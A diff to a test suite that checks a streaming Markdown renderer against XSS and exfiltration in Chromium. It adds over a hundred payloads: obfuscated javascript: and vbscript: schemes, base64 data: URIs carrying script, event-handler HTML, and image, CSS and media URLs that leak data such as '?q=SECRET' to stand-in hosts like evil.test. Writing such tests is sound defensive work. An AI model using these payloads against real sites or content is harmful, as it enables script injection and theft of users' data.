@@ -12,7 +12,7 @@ const evil = ['https://evil.test', 'http://127.0.0.1:9']
 const flag = 'window.__xss=1'
 
 // Payloads in every URL-bearing attribute, raw HTML, SVG and event handlers.
-const corpus = [
+const handWritten = [
   `[a](javascript:${flag})`,
   `[b](JaVaScRiPt:${flag})`,
   `[c](vbscript:msgbox(1))`,
@@ -43,12 +43,51 @@ const corpus = [
   `<details open ontoggle="${flag}"><summary>s</summary>d</details>`,
   `[ref link][evil]\n\n[evil]: javascript:${flag}`,
   `![ref image][pic]\n\n[pic]: ${evil[1]}/ref.png`,
-].join('\n\n')
+]
+
+// The same scheme tricks in every URL-bearing place (obfuscated schemes x contexts).
+const schemes = [
+  `javascript:${flag}`,
+  `JAVASCRIPT:${flag}`,
+  ` javascript:${flag}`,
+  `java\tscript:${flag}`,
+  `java&#x09;script:${flag}`,
+  `&#x6A;avascript:${flag}`,
+  `&#0000106avascript:${flag}`,
+  `javascript&colon;${flag}`,
+  `vbscript:msgbox(1)`,
+  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==`,
+  `data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3hzcz0xIi8+`,
+]
+const contexts: ((url: string) => string)[] = [
+  (url: string) => `[link](${url})`,
+  (url: string) => `![image](${url})`,
+  (url: string) =>
+    `[reference][r-${encodeURIComponent(url).length}]\n\n[r-${encodeURIComponent(url).length}]: ${url}`,
+  (url: string) => `<a href="${url}">raw link</a>`,
+  (url: string) => `<img src="${url}">`,
+  (url: string) => `<form action="${url}"><button formaction="${url}">go</button></form>`,
+  (url: string) => `<video poster="${url}" src="${url}"></video>`,
+  (url: string) => `<svg><a href="${url}"><text>svg link</text></a></svg>`,
+  (url: string) => `<iframe src="${url}"></iframe><object data="${url}"></object>`,
+]
+const generated = schemes.flatMap((url) => contexts.map((context) => context(url)))
+const exfiltration = [
+  `<div style="background-image: url('${evil[1]}/css.png')">css</div>`,
+  `<span style="background:u&#114;l(${evil[1]}/entity.png)">entity</span>`,
+  `![leak](${evil[0]}/?q=SECRET "title")`,
+  `![leak][leak]\n\n[leak]: <${evil[0]}/ref-angle.png>`,
+  `<img src="${evil[1]}%2Fencoded.png"><img src="//127.0.0.1:9/protocol-relative.png">`,
+  `<source src="${evil[1]}/source.mp4"><track src="${evil[1]}/track.vtt"><audio src="${evil[1]}/a.mp3"></audio>`,
+  `<input type="image" src="${evil[1]}/input.png"><embed src="${evil[1]}/embed.png">`,
+  `https://evil.test/autolink.png and www.evil.test/www.png`,
+]
+const payloads = [...handWritten, ...generated, ...exfiltration]
+const corpus = payloads.join('\n\n')
 
 const allowedHtml = {
   img: ['src', 'srcset', 'alt', 'onerror'],
   picture: [],
-  source: ['srcset'],
   video: ['poster', 'src'],
   a: ['href', 'ping'],
   div: ['style'],
@@ -59,6 +98,15 @@ const allowedHtml = {
   summary: [],
   svg: ['onload'],
   image: ['href'],
+  span: ['style'],
+  iframe: ['src'],
+  object: ['data'],
+  input: ['type', 'src'],
+  audio: ['src'],
+  source: ['src', 'srcset'],
+  track: ['src'],
+  embed: ['src'],
+  text: [],
 }
 
 function remoteRequests(): string[] {
@@ -91,6 +139,10 @@ afterEach(() => {
 })
 
 describe('StreamingMarkdown against XSS and exfiltration in Chromium', () => {
+  it('covers at least 100 payloads', () => {
+    expect(payloads.length).toBeGreaterThanOrEqual(100)
+  })
+
   it.each([
     ['default settings', {}],
     ['raw HTML allow-listed, handlers and URLs included', { allowedHtml }],
@@ -112,7 +164,7 @@ describe('StreamingMarkdown against XSS and exfiltration in Chromium', () => {
       .toBe(true)
     for (const link of container.querySelectorAll('a')) {
       link.addEventListener('click', (event) => event.preventDefault())
-      link.click()
+      link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))
     }
     for (const details of container.querySelectorAll('details')) details.open = !details.open
     await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 50)))
